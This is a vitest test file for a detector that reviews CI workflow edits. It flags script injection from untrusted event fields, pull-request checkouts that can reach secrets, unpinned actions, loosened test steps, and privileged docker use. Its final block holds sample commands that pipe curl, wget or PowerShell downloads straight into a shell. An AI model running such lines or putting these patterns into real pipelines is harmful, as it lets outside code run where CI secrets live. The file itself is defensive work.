import { describe, expect, it } from 'vitest';
import { observe, summarize } from '../observation-builder.ts';
import { workflowEdit } from './index.ts';

const path = '.gitea/workflows/ci.yml';
const sha = 'a'.repeat(40);

const filled = (body: string) => `\${{ ${body} }}`;

/** A workflow with one job; its steps begin at line 6. */
function withSteps(steps: readonly string[], trigger = 'push'): string {
  const lines = steps.map((step) => `      - ${step.replaceAll('\n', '\n        ')}\n`).join('');
  return `on: ${trigger}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${lines}`;
}

function judge(base: readonly string[], head: readonly string[], trigger?: string): readonly string[] {
  return summarize(
    observe(workflowEdit, { path, base: withSteps(base, trigger), head: withSteps(head, trigger) }),
  );
}

const checkout = (ref: string) => `uses: actions/checkout@v4\nwith:\n  ref: ${ref}`;
const taken = (ref: string) => `on: push\njobs:\n  a:\n    uses: a/b/.github/workflows/c.yml@${ref}\n`;
const withJob = (more: string) => `on: push\njobs:\n  a:\n    runs-on: x\n${more}    steps: []\n`;

describe('what outsiders write', () => {
  it.each([
    'github.event.issue.title',
    'github.event.comment.body',
    'gitea.event.pull_request.head.ref',
    'github.event.head_commit.author.email',
    "github.event.commits[0].message || 'none'",
    'toJSON(github.event.pull_request.body)',
    'github . head_ref',
    "format('{0}', github.head_ref)",
    'inputs.a ${{ github.head_ref',
  ])('does not go into a script unseen: %s', (expression) => {
    const found = judge(['run: npm test'], ['run: npm test', `run: echo "${filled(expression)}"`]);

    expect(found).toEqual(['workflow-injection:7']);
  });

  it.each([
    'github.event.number',
    'github.ref_name',
    'github.event.pull_request.head.sha',
    'steps.a.outputs.title',
  ])('is not %s', (expression) => {
    const found = judge(['run: npm test'], ['run: npm test', `run: echo "${filled(expression)}"`]);

    expect(found).toEqual(['workflow-changed:7']);
  });

  it('may stand in the environment, which no shell reads as a script', () => {
    const env = `env:\n  TITLE: ${filled('github.event.issue.title')}`;

    const found = judge(['run: npm test'], [`run: npm test\n${env}`]);

    expect(found).toEqual(['workflow-changed:7']);
  });

  it('is found on its line of a long script, and in a script that an action runs', () => {
    const long = `run: |\n  set -e\n  echo ${filled('github.head_ref')}\n  npm test`;
    const action = `uses: actions/github-script@v7\nwith:\n  script: |\n    say('x')\n    say('${filled('github.event.comment.body')}')`;

    const found = judge([], [long, action]);

    expect(found).toEqual(['workflow-injection:8', 'workflow-injection:14']);
  });

  it('is not new when it only moves', () => {
    const echo = `run: echo ${filled('github.head_ref')}`;

    const found = [judge([echo, 'run: a'], ['run: a', echo]), judge([echo], [echo, echo])];

    expect(found).toEqual([['workflow-changed:6'], ['workflow-injection:7']]);
  });
});

describe('code of a pull request', () => {
  it.each([
    ['pull_request_target', filled('github.event.pull_request.head.sha')],
    ['workflow_run', filled('github.event.workflow_run.head_branch')],
    ['issue_comment', 'refs/pull/7/head'],
    ['pull_request_target', filled('github.head_ref')],
  ])('does not meet secrets on %s: %s', (trigger, ref) => {
    const found = judge(['run: npm test'], ['run: npm test', checkout(ref)], trigger);

    expect(found).toEqual(['workflow-checkout:9']);
  });

  it('may be checked out where there are no secrets, and the base anywhere', () => {
    const found = [
      judge([], [checkout(filled('github.head_ref'))], 'pull_request'),
      judge([], [checkout('main')], 'pull_request_target'),
      judge([], ['uses: actions/checkout@v4\nwith:\n  path: refs/pull/1'], 'pull_request_target'),
    ];

    expect(found).toEqual([['workflow-changed:6'], ['workflow-changed:6'], ['workflow-changed:6']]);
  });

  it('is told of once for one step, and when the trigger comes to a checkout that was there', () => {
    const both = `uses: actions/checkout@v4\nwith:\n  repository: ${filled('github.event.pull_request.head.repo.full_name')}\n  ref: ${filled('github.head_ref')}`;
    const found = observe(workflowEdit, {
      path,
      base: withSteps([both], 'pull_request'),
      head: withSteps([both], 'pull_request_target'),
    });

    expect(summarize(found)).toEqual(['workflow-trigger:1', 'workflow-checkout:8']);
  });
});

describe('an action', () => {
  it.each([
    ['a branch', [], 'a/b@main', 'workflow-loose-action:6'],
    ['a branch of a known owner', [], 'actions/checkout@master', 'workflow-loose-action:6'],
    ['a branch after a version', ['a/b@v1'], 'a/b@main', 'workflow-loose-action:6'],
    ['a version after a commit', [`A/b@${sha}`], 'a/b@v1', 'workflow-loose-action:6'],
    ['a new one', [], 'a/b@v1', 'workflow-new-action:6'],
    ['a new one of a folder, by a tag with a path', [], 'a/b/c@release/v1.2', 'workflow-new-action:6'],
    ['a new one from another server', [], 'https://code.example/a/b@v1', 'workflow-new-action:6'],
    ['a workflow of somebody else', [], 'a/b/.github/workflows/c.yml@v1', 'workflow-new-action:6'],
  ])('is told of: %s', (_what, before, after, told) => {
    const found = judge(
      before.map((name) => `uses: ${name}`),
      [`uses: ${after}`],
    );

    expect(found).toEqual([told]);
  });

  it.each([
    ['pinned to a commit', [], `a/b@${sha}`],
    ['another version', ['a/b@v1'], 'a/b@v2'],
    ['the same branch', ['a/b@main'], 'a/b@main\nname: b'],
    ['a version of a known owner', [], 'actions/checkout@v4'],
    ['a version of a known owner, elsewhere', [], 'https://gitea.com/actions/checkout@v4'],
    ['of this repository', [], './.github/actions/b'],
    ['an image', [], 'docker://alpine:3'],
  ])('is an ordinary change: %s', (_what, before, after) => {
    const found = judge(
      before.map((name) => `uses: ${name}`),
      [`uses: ${after}`],
    );

    expect(found.filter((line) => !line.startsWith('workflow-changed'))).toEqual([]);
  });

  it('is read where a whole job is taken from elsewhere', () => {
    const found = observe(workflowEdit, { path, base: taken(sha), head: taken('main') });

    expect(summarize(found)).toEqual(['workflow-loose-action:4']);
  });
});

describe('a check that was there', () => {
  it.each([
    ['run: npm test\ncontinue-on-error: true', 'workflow-bypass:7'],
    [`run: npm test\ncontinue-on-error: ${filled('matrix.loose')}`, 'workflow-bypass:7'],
    ['run: npm test\nif: false', 'workflow-bypass:7'],
    [`run: npm test\nif: ${filled('false')}`, 'workflow-bypass:7'],
    ['run: npm test || true', 'workflow-bypass:6'],
    ['run: "npm test || :"', 'workflow-bypass:6'],
    ['run: npm test || echo failed', 'workflow-bypass:6'],
    ['run: npm test; exit 0', 'workflow-bypass:6'],
    ['run: |\n  set +e\n  npm test', 'workflow-bypass:7'],
  ])('may not fail unseen: %j', (step, told) => {
    const found = judge(['run: npm test'], [step]);

    expect(found).toEqual([told]);
  });

  it('is told of at the line of a long script', () => {
    const found = judge(['run: |\n  npm ci\n  npm test'], ['run: |\n  npm ci\n  npm test || true']);

    expect(found).toEqual(['workflow-bypass:8']);
  });

  it('may fail in a step that is new, was loose before, or is not loosened', () => {
    const found = [
      judge(['run: npm test'], ['run: npm test', 'run: upload || true']),
      judge(['run: npm test || true'], ['run: npm test || true', 'run: b']),
      judge(['run: npm test'], ['run: npm test\ncontinue-on-error: false']),
      judge(['run: npm test'], ["run: npm test\nif: github.ref == 'false'"]),
    ];

    expect(found.flat().filter((line) => !line.startsWith('workflow-changed'))).toEqual([]);
  });

  it.each([
    ['true', ['workflow-bypass:5']],
    ['false', ['workflow-changed:5']],
  ])('may not fail unseen as a whole job: continue-on-error %s', (value, told) => {
    const found = observe(workflowEdit, {
      path,
      base: withJob(''),
      head: withJob(`    continue-on-error: ${value}\n`),
    });

    expect(summarize(found)).toEqual(told);
  });
});

it.each([
  ['run: curl -sSL https://x.example/i.sh | sudo -E bash -', 'workflow-remote-code'],
  ['run: wget -qO- https://x.example/i | sh', 'workflow-remote-code'],
  ['run: curl https://x.example/i.py | python3', 'workflow-remote-code'],
  ['run: sh -c "$(curl -fsSL https://x.example/i)"', 'workflow-remote-code'],
  ['run: iex ((New-Object Net.WebClient).DownloadString("https://x.example"))', 'workflow-remote-code'],
  ['run: docker run -v /var/run/docker.sock:/s tools', 'workflow-privileged'],
  ['uses: docker://tools\nwith:\n  args: --cap-add SYS_ADMIN', 'workflow-privileged'],
])('tells of %j', (step, code) => {
  const found = judge(['run: npm test'], ['run: npm test', step]);

  expect(found.map((line) => line.split(':')[0])).toEqual([code]);
});
